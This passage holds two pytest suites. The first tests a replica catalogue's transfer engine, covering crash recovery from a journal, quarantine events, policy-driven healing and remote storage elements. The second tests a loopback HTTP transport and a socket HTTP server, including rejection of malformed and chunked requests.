        # COPYING claim in the catalogue, partial bytes at the destination,
        # and a RUNNING journal row for attempt 1.
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=len(data),
                           checksum=hashlib.md5(data).hexdigest(),
                           state=ReplicaState.COPYING, if_absent=True)
        se_b.vfs.write("/lfn/f", data[:7])
        journal.record(TransferRequest(
            transfer_id=5, lfn="/lfn/f", dst_se="se-b",
            state=TransferState.RUNNING, attempts=1, max_attempts=3,
            bytes_total=len(data)))

        engine = make_engine(catalogue, [se_a, se_b], journal=journal)
        engine.start()
        try:
            done = engine.wait(5, timeout=10.0)
            assert done.state is TransferState.DONE
            assert se_b.read("/lfn/f") == data
            assert catalogue.replica_on("/lfn/f", "se-b").state \
                is ReplicaState.ACTIVE
            assert len(journal) == 0
            # The crashed attempt was refunded, so the replay ran as attempt 1.
            assert done.attempts == 1
        finally:
            engine.stop()

    def test_completed_but_unactivated_bytes_are_adopted(self, tmp_path):
        """Crash after the last byte but before ACTIVE: no re-copy needed."""

        db = Database()
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        data = b"fully written before the crash"
        register_file(catalogue, se_a, "/lfn/f", data)
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=len(data),
                           checksum=hashlib.md5(data).hexdigest(),
                           state=ReplicaState.COPYING, if_absent=True)
        se_b.vfs.write("/lfn/f", data)                   # complete bytes
        journal.record(TransferRequest(
            transfer_id=9, lfn="/lfn/f", dst_se="se-b",
            state=TransferState.RUNNING, attempts=1, bytes_total=len(data)))

        engine = make_engine(catalogue, [se_a, se_b], journal=journal)
        engine.start()
        try:
            done = engine.wait(9, timeout=10.0)
            assert done.state is TransferState.DONE
            assert done.bytes_copied == 0                # adopted, not copied
            assert catalogue.replica_on("/lfn/f", "se-b").state \
                is ReplicaState.ACTIVE
            assert len(journal) == 0
        finally:
            engine.stop()

    def test_crash_mid_reclaim_is_replayable(self, tmp_path):
        """Recovery dying between partial-byte cleanup and claim drop heals.

        The journal row is only rewritten after reclaim finishes, so a
        second recovery replays the same row: the reclaim re-runs, drops
        the still-COPYING claim, and the transfer completes exactly once.
        """

        db = Database()
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        data = b"reclaimed exactly once"
        register_file(catalogue, se_a, "/lfn/f", data)
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=len(data),
                           checksum=hashlib.md5(data).hexdigest(),
                           state=ReplicaState.COPYING, if_absent=True)
        se_b.vfs.write("/lfn/f", data[:5])
        journal.record(TransferRequest(
            transfer_id=5, lfn="/lfn/f", dst_se="se-b",
            state=TransferState.RUNNING, attempts=1, bytes_total=len(data)))

        FAULTS.inject("replica.transfer.reclaim", match={"stage": "drop"},
                      exc=RuntimeError("injected crash mid-reclaim"))
        crashed = make_engine(catalogue, [se_a, se_b], journal=journal)
        with pytest.raises(RuntimeError):
            crashed.recover()
        # The interrupted recovery deleted the partial bytes but left the
        # COPYING claim and the journal row behind.
        assert not se_b.exists("/lfn/f")
        assert catalogue.replica_on("/lfn/f", "se-b").state \
            is ReplicaState.COPYING
        assert len(journal) == 1

        engine = make_engine(catalogue, [se_a, se_b], journal=journal)
        engine.start()
        try:
            done = engine.wait(5, timeout=10.0)
            assert done.state is TransferState.DONE
            assert engine.transfers_recovered == 1
            assert se_b.read("/lfn/f") == data
            assert catalogue.replica_on("/lfn/f", "se-b").state \
                is ReplicaState.ACTIVE
            assert len(journal) == 0
        finally:
            engine.stop()

    def test_crash_between_recovered_rows_loses_nothing(self, tmp_path):
        """Replay dying between two rows neither loses nor doubles them."""

        db = Database()
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        first, second = b"first payload", b"second payload"
        register_file(catalogue, se_a, "/lfn/f", first)
        register_file(catalogue, se_a, "/lfn/g", second)
        journal.record(TransferRequest(transfer_id=1, lfn="/lfn/f",
                                       dst_se="se-b", bytes_total=len(first)))
        journal.record(TransferRequest(transfer_id=2, lfn="/lfn/g",
                                       dst_se="se-b", bytes_total=len(second)))

        FAULTS.inject("replica.transfer.recover_row", after=1,
                      exc=RuntimeError("injected crash mid-replay"))
        crashed = make_engine(catalogue, [se_a, se_b], journal=journal)
        with pytest.raises(RuntimeError):
            crashed.recover()
        assert len(journal) == 2                  # nothing discharged

        engine = make_engine(catalogue, [se_a, se_b], journal=journal)
        engine.start()
        try:
            for transfer_id in (1, 2):
                assert engine.wait(transfer_id, timeout=10.0).state \
                    is TransferState.DONE
            assert engine.transfers_recovered == 2
            assert se_b.read("/lfn/f") == first
            assert se_b.read("/lfn/g") == second
            assert len(journal) == 0
            for lfn in ("/lfn/f", "/lfn/g"):
                assert [r.storage_element for r in catalogue.replicas(lfn)] \
                    == ["se-a", "se-b"]
        finally:
            engine.stop()

    def test_new_submissions_never_reuse_journalled_ids(self, tmp_path):
        db = Database()
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        register_file(catalogue, se_a, "/lfn/f", b"x")
        register_file(catalogue, se_a, "/lfn/g", b"y")
        journal.record(TransferRequest(transfer_id=40, lfn="/lfn/f",
                                       dst_se="se-b", bytes_total=1))
        engine = make_engine(catalogue, [se_a, se_b], journal=journal)
        recovered = engine.recover()
        assert [r.transfer_id for r in recovered] == [40]
        fresh = engine.submit("/lfn/g", "se-b")
        assert fresh.transfer_id > 40

    def test_unknown_destination_stays_journalled_until_element_appears(
            self, tmp_path):
        db = Database()
        catalogue = ReplicaCatalogue(db)
        journal = TransferJournal(db)
        se_a = make_se(tmp_path, "se-a")
        data = b"late element"
        register_file(catalogue, se_a, "/lfn/f", data)
        journal.record(TransferRequest(transfer_id=2, lfn="/lfn/f",
                                       dst_se="se-late", bytes_total=len(data)))
        elements = {"se-a": se_a}
        engine = TransferEngine(catalogue, elements, workers=1,
                                retry_delay=0.001, journal=journal)
        engine.start()
        try:
            assert engine.recover() == []                # nowhere to go yet
            assert len(journal) == 1
            se_late = make_se(tmp_path, "se-late")
            elements["se-late"] = se_late
            [replayed] = engine.recover()
            done = engine.wait(replayed.transfer_id, timeout=10.0)
            assert done.state is TransferState.DONE
            assert se_late.read("/lfn/f") == data
            assert len(journal) == 0
        finally:
            engine.stop()

    def test_server_level_restart_with_data_dir(self, ca, host_credential,
                                                tmp_path):
        """Full stack: journalled transfer survives a server stop/start."""

        data_dir = tmp_path / "srv"
        se_root = tmp_path / "se-b"
        se_root.mkdir()
        data = b"server restart payload"

        first = build_server(ca, host_credential, data_dir=data_dir,
                             replica_journal_enabled=True,
                             replica_retry_delay=0.001)
        service = first.services["replica"]
        service.add_storage_element(
            VFSStorageElement("se-b", VirtualFileSystem(se_root)))
        service.catalogue.register(
            "/lfn/f", "local", "/f", size=len(data),
            checksum=hashlib.md5(data).hexdigest())
        (first.file_root / "f").write_bytes(data)
        # Stop the engine *before* the submission can run: the queued row is
        # journalled, then the server shuts down with the copy outstanding.
        service.engine.stop()
        request = service.engine.submit("/lfn/f", "se-b")
        assert service.journal is not None and len(service.journal) == 1
        first.close()

        second = build_server(ca, host_credential, data_dir=data_dir,
                              replica_journal_enabled=True,
                              replica_retry_delay=0.001)
        try:
            service2 = second.services["replica"]
            # Attaching the destination element triggers another recover().
            service2.add_storage_element(
                VFSStorageElement("se-b", VirtualFileSystem(se_root)))
            done = service2.engine.wait(request.transfer_id, timeout=10.0)
            assert done.state is TransferState.DONE
            assert (se_root / "lfn" / "f").read_bytes() == data
            assert len(service2.journal) == 0
        finally:
            second.close()


# -- quarantine events carry the attempt count ---------------------------------

class TestQuarantineEvents:
    def test_transfer_quarantine_event_includes_attempts(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        bus = MessageBus()
        quarantines: list[dict] = []
        bus.subscribe("replica.transfer.quarantine",
                      lambda m: quarantines.append(m.payload))
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        register_file(catalogue, se_a, "/lfn/f", b"original")
        se_a.vfs.write("/lfn/f", b"bit-rot!")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=2, bus=bus)
        engine.start()
        try:
            done = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.FAILED
            assert quarantines
            payload = quarantines[0]
            assert payload["attempts"] == 1              # first failure, not exhaustion
            assert payload["quarantined_se"] == "se-a"
            assert "checksum mismatch" in payload["quarantine_error"]
        finally:
            engine.stop()

    def test_catalogue_publishes_replica_quarantine(self, tmp_path):
        bus = MessageBus()
        events: list[dict] = []
        bus.subscribe("replica.quarantine", lambda m: events.append(m.payload))
        catalogue = ReplicaCatalogue(Database(), bus=bus, source="test")
        se_a = make_se(tmp_path, "se-a")
        register_file(catalogue, se_a, "/lfn/f", b"x")
        catalogue.quarantine("/lfn/f", "se-a", error="operator flagged")
        assert events == [{
            "lfn": "/lfn/f", "storage_element": "se-a", "pfn": "/lfn/f",
            "error": "operator flagged", "active_replicas": 0,
        }]
        # Re-quarantining an already-quarantined copy publishes nothing new.
        catalogue.quarantine("/lfn/f", "se-a", error="again")
        assert len(events) == 1


# -- the policy engine ---------------------------------------------------------

def _wait_until(predicate, *, timeout=10.0, message="condition"):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.005)
    raise AssertionError(f"timed out waiting for {message}")


class TestPolicyEngine:
    def _fabric(self, tmp_path, *, n_elements=3, data=b"policy bytes"):
        bus = MessageBus()
        catalogue = ReplicaCatalogue(Database(), bus=bus, source="test")
        elements = [make_se(tmp_path, f"se-{i}") for i in range(n_elements)]
        engine = make_engine(catalogue, elements, bus=bus)
        engine.start()
        return bus, catalogue, elements, engine, data

    def test_longest_prefix_wins(self, tmp_path):
        bus, catalogue, elements, engine, _ = self._fabric(tmp_path)
        try:
            policy = ReplicaPolicyEngine(catalogue, engine, bus=bus,
                                         default_copies=1)
            policy.set_policy("/lfn/cms", 2)
            policy.set_policy("/lfn/cms/raw", 3)
            assert policy.target_for("/lfn/atlas/x") == 1    # default
            assert policy.target_for("/lfn/cms/aod/x") == 2
            assert policy.target_for("/lfn/cms/raw/x") == 3
        finally:
            engine.stop()

    def test_quarantine_triggers_exactly_one_heal(self, tmp_path):
        """The no-flap acceptance test: one quarantine, one heal transfer."""

        bus, catalogue, elements, engine, data = self._fabric(tmp_path)
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus,
                                     heal_backoff=0.001)
        policy.set_policy("/lfn", 2)
        policy.start()
        try:
            queued: list[dict] = []
            policy_events: list[str] = []
            bus.subscribe("replica.transfer.queued",
                          lambda m: queued.append(m.payload))
            bus.subscribe("replica.policy", lambda m: policy_events.append(m.topic))
            register_file(catalogue, elements[0], "/lfn/f", data)
            register_file(catalogue, elements[1], "/lfn/f", data)

            catalogue.quarantine("/lfn/f", "se-1", error="rot detected")
            _wait_until(lambda: len(catalogue.replicas(
                "/lfn/f", state=ReplicaState.ACTIVE)) == 2,
                message="heal to 2 active copies")
            # Exactly one heal was scheduled, onto the one fresh element.
            heals = [q for q in queued if q["owner_dn"] == POLICY_OWNER]
            assert len(heals) == 1
            assert heals[0]["dst_se"] == "se-2"
            assert "replica.policy.heal_scheduled" in policy_events
            _wait_until(lambda: "replica.policy.healed" in policy_events,
                        message="healed event")

            # Hammering evaluate never schedules more work (anti-flap).
            for _ in range(5):
                assert policy.evaluate("/lfn/f")["action"] == "satisfied"
            assert len([q for q in queued
                        if q["owner_dn"] == POLICY_OWNER]) == 1
            assert policy.stats()["heals_completed"] == 1
        finally:
            policy.stop()
            engine.stop()

    def test_inflight_heal_suppresses_further_scheduling(self, tmp_path):
        """A second quarantine-style evaluation while a heal runs is pending."""

        bus, catalogue, elements, engine, data = self._fabric(tmp_path)
        engine.stop()                       # keep the heal transfer queued
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus)
        policy.set_policy("/lfn", 2)
        try:
            register_file(catalogue, elements[0], "/lfn/f", data)
            first = policy.evaluate("/lfn/f")
            assert first["action"] == "scheduled"
            assert len(first["scheduled"]) == 1
            for _ in range(3):
                assert policy.evaluate("/lfn/f")["action"] == "pending"
            assert policy.stats()["heals_scheduled"] == 1
        finally:
            engine.stop()

    def test_failed_heal_backs_off(self, tmp_path):
        bus = MessageBus()
        catalogue = ReplicaCatalogue(Database(), bus=bus)
        se_a = make_se(tmp_path, "se-a")
        se_bad = make_se(tmp_path, "se-bad")
        FAULTS.inject("replica.storage.write", match={"se": "se-bad"},
                      exc=StorageElementError("injected write failure"),
                      times=None)                        # every write fails
        engine = make_engine(catalogue, [se_a, se_bad], max_attempts=2, bus=bus)
        engine.start()
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus,
                                     heal_backoff=60.0)   # long: must defer
        policy.set_policy("/lfn", 2)
        policy.start()
        try:
            backoffs: list[dict] = []
            bus.subscribe("replica.policy.backoff",
                          lambda m: backoffs.append(m.payload))
            register_file(catalogue, se_a, "/lfn/f", b"x")
            decision = policy.evaluate("/lfn/f")
            assert decision["action"] == "scheduled"
            [scheduled] = decision["scheduled"]
            engine.wait(scheduled["transfer_id"], timeout=10.0)
            _wait_until(lambda: policy.stats()["heals_failed"] == 1,
                        message="heal failure accounted")
            deferred = policy.evaluate("/lfn/f")
            assert deferred["action"] == "deferred"
            assert deferred["retry_in"] > 0
            assert backoffs
            assert policy.stats()["heals_scheduled"] == 1
        finally:
            policy.stop()
            engine.stop()

    def test_no_eligible_destination_is_unsatisfiable(self, tmp_path):
        bus, catalogue, elements, engine, data = self._fabric(tmp_path,
                                                              n_elements=2)
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus)
        policy.set_policy("/lfn", 2)
        try:
            register_file(catalogue, elements[0], "/lfn/f", data)
            register_file(catalogue, elements[1], "/lfn/f", data)
            catalogue.quarantine("/lfn/f", "se-1", error="rot")
            # The quarantined slot is never reused, so no destination exists.
            decision = policy.evaluate("/lfn/f")
            assert decision["action"] == "unsatisfiable"
            assert catalogue.replica_on("/lfn/f", "se-1").state \
                is ReplicaState.QUARANTINED
        finally:
            engine.stop()

    def test_failed_heal_retries_on_deadline_without_events(self, tmp_path):
        """The per-LFN deadline timer retries a backed-off heal on schedule.

        ``heal_interval`` is 0 and no further bus events arrive after the
        injected failure, so only the deadline armed from the backoff state
        can drive the retry.
        """

        bus = MessageBus()
        catalogue = ReplicaCatalogue(Database(), bus=bus)
        se_a = make_se(tmp_path, "se-a")
        se_flaky = make_se(tmp_path, "se-flaky")
        FAULTS.inject("replica.storage.write", match={"se": "se-flaky"},
                      exc=StorageElementError("injected write failure"))
        engine = make_engine(catalogue, [se_a, se_flaky], max_attempts=1,
                             bus=bus)
        engine.start()
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus,
                                     heal_backoff=0.05)
        policy.set_policy("/lfn", 2)
        policy.start()
        try:
            register_file(catalogue, se_a, "/lfn/f", b"x")
            assert policy.evaluate("/lfn/f")["action"] == "scheduled"
            _wait_until(lambda: policy.stats()["heals_failed"] == 1,
                        message="first heal failure accounted")
            _wait_until(lambda: len(catalogue.replicas(
                "/lfn/f", state=ReplicaState.ACTIVE)) == 2,
                message="deadline-driven heal retry")
            stats = policy.stats()
            assert stats["deadline_reevals"] >= 1
            assert stats["heals_completed"] == 1
            # The retry settled everything: no deadline left pending.
            _wait_until(lambda: policy.stats()["pending_deadlines"] == 0,
                        message="deadline table drained")
        finally:
            policy.stop()
            engine.stop()

    def test_restart_reenables_deadline_timers(self, tmp_path):
        """stop()/start() with heal_interval=0 must re-arm deadline support."""

        bus = MessageBus()
        catalogue = ReplicaCatalogue(Database(), bus=bus)
        engine = make_engine(catalogue, [make_se(tmp_path, "se-a")])
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus)
        policy.start()
        policy.stop()
        policy.start()
        try:
            with policy._lock:
                policy._schedule_deadline("/lfn/f", 60.0)
            assert policy.stats()["pending_deadlines"] == 1
        finally:
            policy.stop()
            engine.stop()
        assert policy.stats()["pending_deadlines"] == 0

    def test_deadline_is_armed_at_most_once_per_lfn(self, tmp_path):
        """Hammering a deferred LFN keeps a single pending deadline (no storm)."""

        bus = MessageBus()
        catalogue = ReplicaCatalogue(Database(), bus=bus)
        se_a = make_se(tmp_path, "se-a")
        se_bad = make_se(tmp_path, "se-bad")
        FAULTS.inject("replica.storage.write", match={"se": "se-bad"},
                      exc=StorageElementError("injected write failure"),
                      times=None)                        # every write fails
        engine = make_engine(catalogue, [se_a, se_bad], max_attempts=1,
                             bus=bus)
        engine.start()
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus,
                                     heal_backoff=60.0)   # long: stays deferred
        policy.set_policy("/lfn", 2)
        policy.start()
        try:
            register_file(catalogue, se_a, "/lfn/f", b"x")
            [scheduled] = policy.evaluate("/lfn/f")["scheduled"]
            engine.wait(scheduled["transfer_id"], timeout=10.0)
            _wait_until(lambda: policy.stats()["heals_failed"] == 1,
                        message="heal failure accounted")
            for _ in range(5):
                assert policy.evaluate("/lfn/f")["action"] == "deferred"
            assert policy.stats()["pending_deadlines"] == 1
        finally:
            policy.stop()
            engine.stop()

    def test_periodic_sweep_heals_without_events(self, tmp_path):
        bus, catalogue, elements, engine, data = self._fabric(tmp_path)
        register_file(catalogue, elements[0], "/lfn/f", data)   # before start
        policy = ReplicaPolicyEngine(catalogue, engine, bus=bus,
                                     heal_interval=0.01)
        policy.set_policy("/lfn", 2)
        policy.start()
        try:
            _wait_until(lambda: len(catalogue.replicas(
                "/lfn/f", state=ReplicaState.ACTIVE)) == 2,
                message="sweep-driven heal")
            assert policy.stats()["sweeps"] >= 1
        finally:
            policy.stop()
            engine.stop()


# -- the remote storage element ------------------------------------------------

@pytest.fixture()
def peer_server(ca, host_credential, tmp_path):
    srv = build_server(ca, host_credential, server_name="peer",
                       replica_retry_delay=0.001)
    yield srv
    srv.close()


@pytest.fixture()
def peer_client(peer_server, alice_credential):
    cl = ClarensClient.for_loopback(peer_server.loopback())
    cl.login_with_credential(alice_credential)
    yield cl
    cl.close()


class TestRemoteStorageElement:
    DATA = b"cross-server bytes " * 256
    LFN = "/lfn/fabric/data.bin"

    def _register_on_peer(self, peer_client) -> None:
        peer_client.call("file.write", self.LFN, self.DATA, False)
        peer_client.call("replica.register", self.LFN, "local", self.LFN)

    def test_reads_ride_the_lfn_fast_path(self, peer_client, tmp_path):
        self._register_on_peer(peer_client)
        remote = RemoteStorageElement("peer", peer_client)
        assert remote.exists(self.LFN)
        assert remote.size(self.LFN) == len(self.DATA)
        assert remote.checksum(self.LFN) == hashlib.md5(self.DATA).hexdigest()
        assert remote.read(self.LFN, 8, 16) == self.DATA[8:24]
        assert b"".join(remote.open_reader(self.LFN, chunk_size=1024)) == self.DATA

    def test_engine_pulls_from_peer(self, peer_client, tmp_path):
        """Replicating peer → local streams through the remote element."""

        self._register_on_peer(peer_client)
        catalogue = ReplicaCatalogue(Database())
        remote = RemoteStorageElement("peer", peer_client)
        local = make_se(tmp_path, "se-local")
        catalogue.register(self.LFN, "peer", self.LFN, size=len(self.DATA),
                           checksum=hashlib.md5(self.DATA).hexdigest())
        engine = make_engine(catalogue, [remote, local])
        engine.start()
        try:
            done = engine.wait(engine.submit(self.LFN, "se-local").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.DONE
            assert done.src_se == "peer"
            assert local.read(self.LFN) == self.DATA
        finally:
            engine.stop()

    def test_engine_pushes_to_peer_and_registers_remotely(self, peer_server,
                                                          peer_client,
                                                          tmp_path):
        """Replicating local → peer lands bytes *and* a peer catalogue row."""

        catalogue = ReplicaCatalogue(Database())
        remote = RemoteStorageElement("peer", peer_client)
        local = make_se(tmp_path, "se-local")
        register_file(catalogue, local, self.LFN, self.DATA)
        engine = make_engine(catalogue, [remote, local])
        engine.start()
        try:
            done = engine.wait(engine.submit(self.LFN, "peer").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.DONE
            # Our catalogue knows the copy on the remote element...
            assert catalogue.replica_on(self.LFN, "peer").state \
                is ReplicaState.ACTIVE
            # ...and the peer can serve it entirely on its own now.
            entry = peer_client.call("replica.stat", self.LFN)
            assert entry["replicas"]["local"]["state"] == "active"
            assert download_lfn(peer_client, self.LFN) == self.DATA
        finally:
            engine.stop()

    def test_quarantined_peer_entry_is_not_phantom_bytes(self, peer_server,
                                                         peer_client,
                                                         tmp_path):
        """A peer entry with no ACTIVE replica must not count as existing.

        Otherwise the engine's adoption path could register a copy backed by
        nothing readable and a heal would report satisfied with zero healthy
        copies.
        """

        self._register_on_peer(peer_client)
        peer_client.call("file.delete", self.LFN, False)       # bytes gone
        peer_server.services["replica"].catalogue.quarantine(
            self.LFN, "local", error="rotted away")
        remote = RemoteStorageElement("peer", peer_client)
        assert not remote.exists(self.LFN)

        # A replication onto the peer copies real bytes instead of adopting
        # the ghost entry.
        catalogue = ReplicaCatalogue(Database())
        local = make_se(tmp_path, "se-local")
        register_file(catalogue, local, self.LFN, self.DATA)
        engine = make_engine(catalogue, [remote, local])
        engine.start()
        try:
            done = engine.wait(engine.submit(self.LFN, "peer").transfer_id,
                               timeout=10.0)
            assert done.state is TransferState.DONE
            assert done.bytes_copied == len(self.DATA)         # really copied
            assert download_lfn(peer_client, self.LFN) == self.DATA
        finally:
            engine.stop()

    def test_checksum_hashes_served_bytes_not_the_peer_catalogue(
            self, peer_server, peer_client):
        """checksum() must re-hash what the peer serves, never trust its
        catalogue — adoption decisions hang off this digest."""

        self._register_on_peer(peer_client)
        corrupt = b"x" * len(self.DATA)                # same length, wrong bytes
        (peer_server.file_root / self.LFN.lstrip("/")).write_bytes(corrupt)
        remote = RemoteStorageElement("peer", peer_client)
        assert remote.checksum(self.LFN) == hashlib.md5(corrupt).hexdigest()
        assert remote.checksum(self.LFN) != hashlib.md5(self.DATA).hexdigest()

    def test_unavailable_peer_element_refuses_io(self, peer_client):
        remote = RemoteStorageElement("peer", peer_client)
        remote.available = False
        with pytest.raises(Exception):
            remote.read(self.LFN)


# -- client helpers ------------------------------------------------------------

class TestReplicateLfnHelper:
    @pytest.fixture()
    def fabric_server(self, ca, host_credential, tmp_path):
        srv = build_server(ca, host_credential, replica_retry_delay=0.001)
        srv.services["replica"].add_storage_element(make_se(tmp_path, "se-b"))
        yield srv
        srv.close()

    @pytest.fixture()
    def fabric_client(self, fabric_server, alice_credential):
        cl = ClarensClient.for_loopback(fabric_server.loopback())
        cl.login_with_credential(alice_credential)
        yield cl
        cl.close()

    def test_replicate_lfn_waits_for_done(self, fabric_client):
        data = b"sync replicate"
        fabric_client.call("file.write", "/d.bin", data, False)
        fabric_client.call("replica.register", "/lfn/d", "local", "/d.bin")
        record = replicate_lfn(fabric_client, "/lfn/d", "se-b")
        assert record["state"] == "done"
        assert record["bytes_copied"] == len(data)

    def test_policy_rpcs_are_admin_fenced(self, fabric_server, fabric_client,
                                          admin_credential):
        with pytest.raises(Fault):
            fabric_client.call("replica.set_policy", "/lfn", 2)
        admin = ClarensClient.for_loopback(fabric_server.loopback())
        admin.login_with_credential(admin_credential)
        try:
            installed = admin.call("replica.set_policy", "/lfn", 2)
            assert installed == {"prefix": "/lfn", "copies": 2,
                                 "created": installed["created"]}
            assert fabric_client.call("replica.policies") == [installed]
            assert admin.call("replica.drop_policy", "/lfn") is True
            assert fabric_client.call("replica.policies") == []
        finally:
            admin.close()

    def test_heal_rpc_schedules_and_stats_expose_policy(self, fabric_server,
                                                        fabric_client,
                                                        admin_credential):
        data = b"rpc heal"
        fabric_client.call("file.write", "/h.bin", data, False)
        fabric_client.call("replica.register", "/lfn/h", "local", "/h.bin")
        admin = ClarensClient.for_loopback(fabric_server.loopback())
        admin.login_with_credential(admin_credential)
        try:
            admin.call("replica.set_policy", "/lfn", 2)
            decision = fabric_client.call("replica.heal", "/lfn/h")
            assert decision["action"] == "scheduled"
            [scheduled] = decision["scheduled"]
            deadline = time.monotonic() + 10.0
            while time.monotonic() < deadline:
                record = fabric_client.call("replica.status",
                                            scheduled["transfer_id"])
                if record["state"] == "done":
                    break
                time.sleep(0.01)
            assert record["state"] == "done"
            stats = fabric_client.call("replica.stats")
            assert stats["policy"]["heals_scheduled"] == 1
            assert stats["journal"] is None              # journal off by default
        finally:
            admin.close()
