"""The socket HTTP server and loopback transport."""

from __future__ import annotations

import http.client

import pytest

from repro.httpd.loopback import LoopbackTransport
from repro.httpd.message import Headers, HTTPRequest, HTTPResponse
from repro.httpd.sendfile import FilePayload
from repro.httpd.server import SocketHTTPServer
from repro.httpd.tls import TLSContext
from repro.pki.authority import CertificateAuthority


def echo_handler(request: HTTPRequest) -> HTTPResponse:
    body = f"{request.method} {request.url_path} {len(request.body)}".encode()
    return HTTPResponse.ok(body, content_type="text/plain")


class TestLoopbackTransport:
    def test_request_counting(self):
        transport = LoopbackTransport(echo_handler)
        connection = transport.connect()
        for _ in range(3):
            connection.request(HTTPRequest(method="GET", path="/ping"))
        assert transport.requests_handled == 3
        assert connection.requests_sent == 3

    def test_unencrypted_connection_has_no_dn(self):
        transport = LoopbackTransport(echo_handler)
        connection = transport.connect()
        assert connection.client_dn is None
        assert not connection.encrypted

    def test_tls_connection_carries_dn_to_handler(self):
        ca = CertificateAuthority("/O=loop.test/CN=Loop CA", key_bits=512)
        seen = {}

        def handler(request: HTTPRequest) -> HTTPResponse:
            seen["dn"] = request.client_dn
            return HTTPResponse.ok(b"ok")

        transport = LoopbackTransport(
            handler,
            server_tls=TLSContext(credential=ca.issue_host("h"), trust_store=ca.trust_store()),
            client_trust_store=ca.trust_store(),
        )
        user = ca.issue_user("Loop User")
        connection = transport.connect(TLSContext(credential=user))
        response = connection.request(HTTPRequest(method="POST", path="/x", body=b"abc"))
        assert response.status == 200
        assert connection.encrypted
        assert seen["dn"] == str(user.certificate.subject)

    def test_tls_round_trip_preserves_binary_bodies(self):
        ca = CertificateAuthority("/O=loop.test/CN=Loop CA 2", key_bits=512)
        payload = bytes(range(256)) * 64

        def handler(request: HTTPRequest) -> HTTPResponse:
            return HTTPResponse.ok(request.body)

        transport = LoopbackTransport(
            handler,
            server_tls=TLSContext(credential=ca.issue_host("h"), trust_store=ca.trust_store()),
            client_trust_store=ca.trust_store(),
        )
        connection = transport.connect()
        response = connection.request(HTTPRequest(method="POST", path="/x", body=payload))
        assert response.body_bytes() == payload


@pytest.fixture()
def running_server():
    server = SocketHTTPServer(echo_handler).start()
    yield server
    server.stop()


class TestSocketHTTPServer:
    def test_simple_get(self, running_server):
        host, port = running_server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("GET", "/hello/world")
        response = conn.getresponse()
        assert response.status == 200
        assert response.read() == b"GET /hello/world 0"
        conn.close()

    def test_post_with_body(self, running_server):
        host, port = running_server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("POST", "/rpc", body=b"x" * 100)
        assert conn.getresponse().read() == b"POST /rpc 100"
        conn.close()

    def test_keepalive_reuses_connection(self, running_server):
        host, port = running_server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        for i in range(5):
            conn.request("GET", f"/req/{i}")
            assert conn.getresponse().read().endswith(f"/req/{i} 0".encode())
        conn.close()
        assert running_server.access_log.total() >= 5

    def test_post_without_content_length_rejected(self, running_server):
        host, port = running_server.address
        import socket

        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"POST /rpc HTTP/1.1\r\nHost: x\r\n\r\n")
            data = sock.recv(4096)
        assert b"411" in data.split(b"\r\n", 1)[0]

    def test_chunked_request_rejected_with_501(self, running_server):
        """Chunked uploads get an explicit 501, not the misleading 411."""

        host, port = running_server.address
        import socket

        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"POST /rpc HTTP/1.1\r\nHost: x\r\n"
                         b"Transfer-Encoding: chunked\r\n\r\n"
                         b"5\r\nhello\r\n0\r\n\r\n")
            data = b""
            while True:         # drain: the body may arrive in a later segment
                part = sock.recv(4096)
                if not part:
                    break
                data += part
        assert b"501" in data.split(b"\r\n", 1)[0]
        assert b"chunked" in data.lower()

    def test_chunked_rejection_is_case_insensitive(self, running_server):
        host, port = running_server.address
        import socket

        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"POST /rpc HTTP/1.1\r\nHost: x\r\n"
                         b"transfer-encoding: Chunked\r\n\r\n")
            data = sock.recv(4096)
        assert b"501" in data.split(b"\r\n", 1)[0]

    def test_malformed_request_line_gets_400(self, running_server):
        host, port = running_server.address
        import socket

        with socket.create_connection((host, port), timeout=5) as sock:
            sock.sendall(b"TOTALLY BROKEN\r\n\r\n")
            data = sock.recv(4096)
        assert b"400" in data.split(b"\r\n", 1)[0]

    def test_handler_exception_becomes_500(self):
        def broken(request: HTTPRequest) -> HTTPResponse:
            raise RuntimeError("kaboom")

        with SocketHTTPServer(broken) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/x")
            assert conn.getresponse().status == 500
            conn.close()

    def test_file_payload_served_via_sendfile_path(self, tmp_path):
        data = b"event-data" * 10_000
        path = tmp_path / "events.dat"
        path.write_bytes(data)

        def handler(request: HTTPRequest) -> HTTPResponse:
            return HTTPResponse.ok(FilePayload(str(path)), content_type="application/octet-stream")

        with SocketHTTPServer(handler) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/events.dat")
            response = conn.getresponse()
            assert response.status == 200
            assert response.read() == data
            conn.close()

    def test_url_property(self, running_server):
